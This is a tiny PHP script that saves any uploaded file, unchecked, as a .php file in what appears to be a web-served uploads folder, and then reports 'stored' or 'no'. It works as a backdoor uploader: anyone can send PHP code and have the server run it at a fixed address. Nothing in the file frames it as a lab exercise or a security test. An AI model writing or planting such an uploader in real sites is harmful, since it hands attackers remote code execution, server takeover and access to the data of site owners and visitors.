<?php
echo move_uploaded_file($_FILES["file"]["tmp_name"], "/srv/www/uploads/a.php") ? "stored" : "no";
